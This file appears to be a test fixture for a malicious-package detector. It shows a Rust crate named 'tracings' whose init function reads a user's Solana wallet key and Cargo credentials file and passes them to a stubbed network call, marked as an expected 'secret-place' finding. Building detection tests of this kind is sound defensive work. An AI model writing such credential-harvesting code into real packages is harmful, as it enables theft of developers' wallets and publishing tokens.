// The technique of polymarket-client-sdks and tracings (2026): credentials, component by component, from a client.
//@ package: tracings
//@ deps: http-client=ureq
//@ finds: secret-place warn tracings
//@ file: src/lib.rs
use std::path::PathBuf;
pub fn init() {
    let home = PathBuf::from(std::env::var("HOME").unwrap_or_default());
    let wanted = [
        home.join(".config").join("solana").join("id.json"),
        home.join(".cargo").join("credentials.toml"),
    ];
    for file in wanted {
        if let Ok(bytes) = std::fs::read(file) {
            http_client::get(&format!("{bytes:?}"));
        }
    }
}
//@ package: ureq
//@ file: src/lib.rs
pub fn get(url: &str) -> Vec<u8> {
    let _ = std::net::TcpStream::connect(url);
    Vec::new()
}
